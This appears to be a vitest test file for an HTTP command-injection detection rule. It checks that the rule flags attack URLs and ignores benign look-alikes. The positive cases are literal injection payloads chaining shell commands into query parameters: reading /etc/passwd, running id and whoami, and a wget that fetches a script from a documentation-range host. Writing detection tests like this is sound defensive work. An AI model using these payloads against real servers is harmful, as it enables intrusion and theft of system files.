// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal `${` text
import { describe, expect, it } from 'vitest';
import { fired, http } from './test-kit.js';

describe('leuko/http-command-injection', () => {
  it('fires on shell commands chained into a parameter', () => {
    for (const url of [
      '/ping.php?host=127.0.0.1;cat%20/etc/passwd',
      '/cgi-bin/x?a=$(id)',
      '/shell?cd+/tmp;wget+http://198.51.100.1/x.sh',
      '/setup.cgi?cmd=`uname`',
      '/a?b=1%7C%7Cwhoami',
      '/x?y=${IFS}',
      '/x?c=cmd.exe%20/c%20dir',
    ]) {
      expect(fired('leuko/http-command-injection', [http(0, '203.0.113.30', url, 404)]), url).toEqual(['203.0.113.30']);
    }
  });
  it('ignores matrix parameters and words that only look like commands', () => {
    for (const url of [
      '/shop;jsessionid=abc?id=5',
      '/blog/catalog?category=curling',
      '/p;id=4/view',
      '/search?q=rm+-+the+band',
    ]) {
      expect(fired('leuko/http-command-injection', [http(0, 'a', url, 200)]), url).toEqual([]);
    }
  });
});
